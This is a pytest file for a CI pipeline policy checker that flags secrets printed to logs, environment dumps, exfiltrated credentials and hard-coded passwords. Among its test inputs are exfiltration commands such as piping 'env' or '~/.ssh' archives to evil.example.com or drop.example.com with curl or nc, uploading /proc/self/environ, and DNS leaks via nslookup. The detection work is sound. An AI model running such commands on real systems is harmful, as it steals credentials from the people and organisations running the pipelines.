"""Secrets and whole environments that reach the log, another host or an argument list; credentials written out."""

from __future__ import annotations

import pytest

from policyd.pipeline.effects import find_variable_effects
from tests.pipeline.effects.said import details, effects

GITHUB_TOKEN = "ghp_" + "a1" * 18  # of no one


@pytest.mark.parametrize(
    "script",
    [
        "echo $TOKEN",
        'echo "token: ${TOKEN}"',
        'printf "%s" "$TOKEN"',
        'X="$TOKEN"; echo "$X"',
        'echo "$TOKEN" | base64',
        'echo "$TOKEN" | rev | cat',
        'echo "$TOKEN" | tee /dev/stderr',
        'base64 <<< "$TOKEN"',
        "cat <<EOF\n$TOKEN\nEOF",
        "echo ${{ secrets.TOKEN }}",
        "echo ${TOKEN:0:4}",
        'echo "$TOKEN" 2>/dev/null',
        "printenv TOKEN",
        "python -c 'import os; print(os.environ[\"TOKEN\"])'",
        "cat /var/run/secrets/deploy/token",
        "cat $(workspaces.login.path)/password",
        "kubectl get secret deploy -o yaml",
        "kubectl get secret deploy -o jsonpath='{.data.key}' | base64 -d",
        "az keyvault secret show --vault-name v --name n --query value -o tsv",
        "aws secretsmanager get-secret-value --secret-id s",
        "gcloud auth print-access-token",
        "terraform output -raw admin_password",
        "cat $(signing.secureFilePath)",
        'echo "##vso[task.setvariable variable=t]$TOKEN"',
        'K=$(az storage account keys list -n a --query [0].value -o tsv); echo "##vso[task.setvariable variable=k]$K"',
        "cat > settings.xml <<EOF\n<p>$TOKEN</p>\nEOF\nhead -n 5 settings.xml",
    ],
)
def test_a_secret_in_the_log_is_seen(script: str) -> None:
    assert len(details("secret-print", script)) == 1


@pytest.mark.parametrize(
    "script",
    [
        'echo "$TOKEN" | docker login --password-stdin -u x ghcr.io',
        'echo "$TOKEN" > key.pem',
        'echo "$TOKEN" | base64 -d > key.pem',
        'echo "::add-mask::$TOKEN"',
        'X=$(echo "$TOKEN" | base64); curl -H "Authorization: Basic $X" https://api.example.com',
        "echo '$TOKEN'",
        'echo "${#TOKEN}"',
        'echo "${TOKEN:+set}"',
        '[ -n "$TOKEN" ] && echo ok',
        'gh auth login --with-token <<< "$TOKEN"',
        "echo $NAME",
        "echo $TOKENS",
        'echo "$TOKEN" | grep -q x',
        'echo "##vso[task.setvariable variable=t;issecret=true]$TOKEN"',
        'echo "##vso[task.setsecret]$TOKEN"',
        "terraform output -raw storage_account_name",
        "head -n 5 settings.xml",
        "X=$(cat /var/run/secrets/deploy/token)",
        "cat /var/run/secrets/deploy/token | docker login --password-stdin -u x ghcr.io",
        "cat src/token.c",
        "kubectl get secrets",
        "kubectl get secret deploy -o name",
        "kubectl create secret generic deploy --from-file=key",
        "X=$(az keyvault secret show --vault-name v --name n --query value -o tsv)",
        "gcloud auth print-access-token | docker login --password-stdin -u oauth2accesstoken gcr.io",
    ],
)
def test_a_secret_that_goes_where_it_is_needed_is_fine(script: str) -> None:
    assert details("secret-print", script) == []


def test_powershell_and_cmd_print_too() -> None:
    assert details("secret-print", "Write-Host $env:TOKEN", "pwsh") == ["TOKEN"]
    assert details("secret-print", "echo %TOKEN%", "cmd") == ["TOKEN"]
    assert details("environment-dump", "gci env:* | Sort-Object Name", "pwsh") != []


@pytest.mark.parametrize(
    "script",
    ["env", "printenv", "export -p", "set", "env | sort", "declare -x", "printenv | cat", "env | grep -i token"],
)
def test_a_listing_of_the_environment_is_seen(script: str) -> None:
    assert len(details("environment-dump", script)) == 1


@pytest.mark.parametrize(
    "script",
    ["env A=1 make", "set -e", "export A=1", "env > f", "env | grep ^CI", "X=$(env)", "printenv HOME", "env | wc -l"],
)
def test_other_uses_of_the_same_programs_are_fine(script: str) -> None:
    assert details("environment-dump", script) == []


@pytest.mark.parametrize(
    "script",
    [
        "env | curl -d @- https://evil.example.com",
        "env | base64 | curl -X POST -d @- https://evil.example.com",
        'curl -d "$(env)" https://evil.example.com',
        "printenv | nc evil.example.com 80",
        "curl --data-binary @/proc/self/environ https://evil.example.com",
    ],
)
def test_an_environment_that_is_sent_is_seen(script: str) -> None:
    assert len(details("environment-send", script)) == 1


def test_a_secret_that_is_sent_is_told_from_one_that_proves_who_sends() -> None:
    sent = [e.confidence for e in effects('curl -d "t=$TOKEN" https://x.example.com/in') if e.kind == "secret-send"]

    assert sent == ["medium"]
    assert details("secret-send", 'curl -d "t=$TOKEN" https://webhook.site/abc') == ["webhook.site"]
    assert details("secret-send", 'curl "https://x.example.com/?k=$TOKEN"') == ["x.example.com"]
    assert details("secret-send", 'curl -H "Authorization: Bearer $TOKEN" https://api.example.com') == []
    assert details("secret-send", 'curl -d "t=$TOKEN" http://localhost:8080') == []


@pytest.mark.parametrize(
    "script", ["docker login -u x -p $TOKEN", 'twine upload -p "$TOKEN" dist/*', "sshpass -p $TOKEN ssh x"]
)
def test_a_secret_among_the_arguments_is_seen(script: str) -> None:
    assert len(details("secret-argument", script)) == 1


def test_a_port_is_no_password() -> None:
    assert details("secret-argument", 'docker run -p $PORT -e T="$TOKEN" x') == []


@pytest.mark.parametrize(
    "script",
    [
        f"curl -H 'Authorization: Bearer {GITHUB_TOKEN}' https://api.example",
        f"cat <<EOF > f\n{GITHUB_TOKEN}\nEOF",
        "docker login -u x -p hunter22",
        "curl -u admin:s3cr3tpw https://x.example",
        "git clone https://bot:9f8e7d6c5b4a@git.example.com/x",
        "DEPLOY_TOKEN=9f8e7d6c5b4a39281706 ./deploy",
        "echo '##vso[task.setvariable variable=p;issecret=true]hunter22'",
    ],
)
def test_a_credential_that_is_written_out_is_seen(script: str) -> None:
    assert len(details("literal-credential", script)) == 1


@pytest.mark.parametrize(
    "script",
    [
        "docker login -u x -p $TOKEN",
        "docker run -p 8080:80 x",
        'curl -u "x:$TOKEN" https://x.example',
        "git clone https://x-access-token:$TOKEN@github.com/o/r",
        "git clone git@github.com:o/r",
        "POSTGRES_PASSWORD=postgres make test",
        "mkdir -p x12345678",
    ],
)
def test_references_to_secrets_and_other_words_are_fine(script: str) -> None:
    assert details("literal-credential", script) == []


@pytest.mark.parametrize(
    ("name", "value", "origin", "found"),
    [
        ("X", GITHUB_TOKEN, "environment", "a GitHub token"),
        ("K", "-----BEGIN RSA " + "PRIVATE KEY-----", "input", "a private key"),
        ("DEPLOY_TOKEN", "9f8e7d6c5b4a39281706", "environment", "what seems a credential"),
        ("password", "hunter", "credentials", "a registry's password"),
    ],
)
def test_a_variable_that_holds_a_credential_is_seen(name: str, value: str, origin: str, found: str) -> None:
    effects = list(find_variable_effects(name, value, origin))  # type: ignore[arg-type]  # one of the three

    assert [(effect.kind, effect.detail, effect.text) for effect in effects] == [("literal-credential", found, name)]


@pytest.mark.parametrize(
    ("name", "value", "origin"),
    [
        ("username", "builder", "credentials"),
        ("POSTGRES_PASSWORD", "postgres1", "environment"),
        ("API_TOKEN", "$OTHER_TOKEN1", "environment"),
        ("TOKEN", "none", "environment"),
        ("CACHE_PREFIX", "9f8e7d6c5b4a39281706", "environment"),
    ],
)
def test_other_variables_hold_none(name: str, value: str, origin: str) -> None:
    assert list(find_variable_effects(name, value, origin)) == []  # type: ignore[arg-type]


def test_a_reference_to_a_secret_is_no_credential() -> None:
    assert list(find_variable_effects("DEPLOY_TOKEN", "${{ secrets.A1 }}", literal=False)) == []


@pytest.mark.parametrize(
    "script",
    [
        "git clone https://x:$TOKEN@github.com/o/r",
        "git remote set-url origin https://x-access-token:${TOKEN}@github.com/o/r",
        'git config --global http.extraheader "AUTHORIZATION: basic $TOKEN"',
        'echo "https://x:$TOKEN@github.com" > ~/.git-credentials',
    ],
)
def test_credentials_that_are_left_lying_are_seen(script: str) -> None:
    assert len(details("persists-credentials", script)) == 1


def test_pushing_with_a_token_leaves_none() -> None:
    assert details("persists-credentials", "git push https://x:$TOKEN@github.com/o/r main") == []


@pytest.mark.parametrize(
    "script",
    [
        'cat "$TOKEN"',
        "P=$(vault kv get -field=password secret/db)\necho $P",
        "P=$(aws secretsmanager get-secret-value --secret-id x --query SecretString)\nprintf '%s' \"$P\"",
        "printenv NPM_TOKEN",
        'echo "$TOKEN" | base64\n[ -n "$TOKEN" ] || { echo no; exit 1; }',
        'echo "$TOKEN" && date > now.txt',
    ],
)
def test_a_secret_that_is_fetched_kept_or_named_is_seen_in_the_log(script: str) -> None:
    assert len(details("secret-print", script)) == 1


@pytest.mark.parametrize(
    "script",
    [
        "U=$(vault kv get -field=username secret/db)\necho $U",
        "printenv HOME",
        'curl -F "token=$TOKEN" https://gitlab.example.com/api/v4/projects/9/trigger/pipeline',
        'git clone "https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.example.com/a/b.git"',
    ],
)
def test_names_and_tokens_of_the_job_itself_are_fine(script: str) -> None:
    kinds = {effect.kind for effect in effects(script, secrets=("TOKEN", "CI_JOB_TOKEN"))}

    assert kinds.isdisjoint({"secret-print", "secret-send", "persists-credentials"})


@pytest.mark.parametrize(
    "script",
    [
        "mysql -h db.example.com -pk8Vq2Zx9Lm4T app",
        "PGPASSWORD=k8Vq2Zx9Lm4T psql -h db.example.com",
        "curl -H 'X-Api-Key: 7f3a9c2e8b1d4056a7c8e9f0b1a2c3d4' https://api.example.com",
        "aws configure set aws_secret_access_key wJa1rXUtnF2EMIK7MDENGbPxRfiCYzQ9kLmNo3Pq",
    ],
)
def test_a_credential_in_its_own_way_is_seen(script: str) -> None:
    assert len(details("literal-credential", script)) == 1


def test_a_listing_that_was_kept_and_then_shown_is_seen() -> None:
    assert details("environment-dump", "env > env.txt\ncat env.txt") == ["cat"]
    assert not details("environment-dump", "env > env.txt\ncat other.txt")


@pytest.mark.parametrize(
    "script",
    [
        'set -x\ncurl -H "Authorization: Bearer $TOKEN" https://x.example.com',
        "set -o xtrace\nmake\n./deploy ${{ secrets.TOKEN }}",
        'curl -sv -H "Authorization: Bearer $TOKEN" https://x.example.com',
        'for n in TOKEN OTHER; do echo "$n=${!n}"; done',
        "printenv TOKEN | rev",
        'echo "$TOKEN" > .env\ncat .env',
        'echo "$TOKEN" >> "$GITHUB_STEP_SUMMARY"',
    ],
)
def test_a_secret_that_reaches_the_log_by_the_way_is_seen(script: str) -> None:
    assert len(details("secret-print", script)) == 1


@pytest.mark.parametrize(
    "script",
    [
        'set -x\nmake\nset +x\ncurl -H "Authorization: Bearer $TOKEN" https://x.example.com',
        "curl -v https://x.example.com",
        'for n in A B; do echo "$n=${!n}"; done',
        'echo "$TOKEN" > .env\ncat other.env',
        'echo "$TOKEN" > t\ncat t | docker login --password-stdin -u x ghcr.io',
        'echo "id $(echo "$TOKEN" | sha256sum | cut -c1-8)"',
        "echo \"${{ secrets.TOKEN != '' }}\"",
    ],
)
def test_what_shows_nothing_of_a_secret_is_fine(script: str) -> None:
    assert details("secret-print", script) == []


def test_a_traced_secret_is_not_said_twice() -> None:
    assert details("debug", 'set -x\ndeploy "$TOKEN"') == []


def test_names_of_variables_alone_are_no_dump() -> None:
    assert details("environment-dump", "env | cut -d= -f1 | sort") == []
    assert len(details("environment-dump", "env | cut -c1-20 | sort")) == 1


def test_code_that_prints_a_secret_points_at_its_line() -> None:
    script = "const a = 1;\ncore.info(process.env.TOKEN);\nconsole.log(`x ${{ secrets.OTHER }}`);\n"
    found = [e for e in effects(script, "javascript") if e.kind == "secret-print"]

    assert sorted(script[e.start : e.end] for e in found) == [
        "console.log(`x ${{ secrets.OTHER }}`);",
        "core.info(process.env.TOKEN);",
    ]


@pytest.mark.parametrize(
    "script",
    [
        'nslookup "$TOKEN.x.example.com"',
        'curl --data @- https://x.example.com/in <<< "$TOKEN"',
        "curl -d '${{ toJSON(secrets) }}' https://x.example.com/in",
    ],
)
def test_a_secret_that_leaves_in_another_way_is_seen(script: str) -> None:
    assert len(details("secret-send", script)) == 1


def test_who_logs_in_with_a_secret_sends_it_to_no_stranger() -> None:
    script = 'curl -d "grant_type=password&username=u&password=$TOKEN" https://x.example.com/oauth/token'
    assert details("secret-send", script) == []
    assert len(details("secret-send", 'curl -d "t=$TOKEN" https://x.example.com/auth')) == 1


def test_a_secret_in_a_build_argument_stays_in_the_image() -> None:
    assert details("secret-argument", 'docker build --build-arg "T=$TOKEN" .') == ["docker"]
    assert details("secret-argument", "docker build --build-arg VERSION=1 .") == []


def test_a_token_pasted_into_an_address_is_left_behind() -> None:
    assert len(details("persists-credentials", "git clone https://x:${{ secrets.PAT }}@github.com/o/r.git")) == 1


@pytest.mark.parametrize(
    "script",
    [
        "tar cz ~/.ssh | curl -T - https://drop.example.com",
        "tar cz $HOME/.aws | gzip | curl --data-binary @- https://drop.example.com",
        "curl -F f=@$HOME/.ssh/id_rsa https://drop.example.com",
        "curl -T ~/.netrc https://drop.example.com",
        "base64 ~/.docker/config.json | nc drop.example.com 9000",
    ],
)
def test_credentials_of_the_home_folder_that_are_sent(script: str) -> None:
    assert len(details("secret-send", script)) == 1


@pytest.mark.parametrize(
    "script",
    [
        "tar cz dist | curl -T - https://drop.example.com",
        "curl -T ~/.ssh/known_hosts https://drop.example.com",
        "cat ~/.ssh/id_ed25519.pub | curl -T - https://keys.example.com",
        "curl --netrc-file ~/.netrc -T dist.tgz https://files.example.com",
        "tar cz ~/.ssh > x.tgz; cat dist | curl -T - https://files.example.com",
    ],
)
def test_other_files_may_be_sent(script: str) -> None:
    assert details("secret-send", script) == []


def test_a_secret_that_printenv_answers_with_is_seen() -> None:
    assert details("secret-print", 'echo "$(printenv TOKEN)"') == ["TOKEN"]
    assert details("secret-print", 'echo "$(printenv DB_PASSWORD)"') == ["DB_PASSWORD"]
    assert details("secret-print", 'X=$(printenv TOKEN); echo "$X"') == ["X"]
    assert details("secret-print", 'echo "$(printenv HOME)"; X=$(printenv TOKEN)') == []


def test_tee_prints_what_it_writes() -> None:
    assert details("secret-print", 'tee .npmrc <<< "token=$TOKEN"') == ["TOKEN"]
    assert details("secret-print", 'tee .npmrc <<< "token=$TOKEN" > /dev/null') == []


def test_a_token_that_a_program_shows_is_printed_and_one_that_it_hands_on_is_not() -> None:
    assert details("secret-print", "oc whoami -t") == ["the secret it asks for"]
    assert details("secret-print", "oc whoami") == []
    assert details("secret-print", "oc whoami -t | podman login -u x --password-stdin quay.io") == []


def test_a_password_that_is_a_setting_of_a_program_is_written_out() -> None:
    assert details("literal-credential", "helm upgrade app . --set adminPassword=Pr0d-Adm1n-77") == ["adminPassword"]
    assert details("literal-credential", "docker build --build-arg NPM_TOKEN=k2Lm9Qw8xZ .") == ["NPM_TOKEN"]
    assert details("literal-credential", 'helm upgrade app . --set adminPassword="$PASSWORD",replicas=2') == []


@pytest.mark.parametrize(
    ("script", "sent"),
    [
        ("curl --data-binary @/var/secrets/key https://x.example.com/in", 1),
        ("curl -F file=@/run/secrets/key https://x.example.com/in", 1),
        ("wget --post-file=/var/run/secrets/key https://x.example.com/in", 1),
        ("curl -T ~/keys/id_ed25519 https://x.example.com/in", 1),
        ("curl -d @/proc/self/environ https://x.example.com/in", 1),
        # How a credential is shown to whom it is for.
        ("curl -d @/var/secrets/key https://idp.example.com/oauth/token", 0),
        ("curl --data-binary @report.json https://x.example.com/in", 0),
        ("T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl https://x.example.com/?t=$T", 1),
        ("T=$(cat version.txt)\ncurl https://x.example.com/?t=$T", 0),
    ],
)
def test_a_mounted_secret_that_is_uploaded_is_sent(script: str, sent: int) -> None:
    assert len(details("secret-send", script)) == sent
